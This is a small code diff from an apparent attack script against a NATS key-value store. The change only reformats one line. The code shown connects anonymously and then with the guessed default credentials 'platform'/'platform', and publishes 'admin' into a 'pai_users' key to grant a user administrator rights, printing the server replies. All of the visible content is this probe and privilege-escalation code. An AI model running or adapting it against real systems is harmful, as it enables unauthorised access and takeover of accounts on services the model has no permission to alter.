@@ -29,7 +29,8 @@ def attempt(login):
         f = s.makefile("rb")
         f.readline()  # INFO
         connect = dict(verbose=False, pedantic=False, **login)
-        s.sendall(b"CONNECT " + json.dumps(connect).encode() + b"\\r\\nPUB $KV.pai_users." + key.encode() + b" 5\\r\\nadmin\\r\\nPING\\r\\n")
+        s.sendall(b"CONNECT " + json.dumps(connect).encode()
+                  + b"\\r\\nPUB $KV.pai_users." + key.encode() + b" 5\\r\\nadmin\\r\\nPING\\r\\n")
         return f.readline().decode().strip()
 print("ANONYMOUS", attempt({}))
 print("GUESSED", attempt({"user": "platform", "pass": "platform"}))
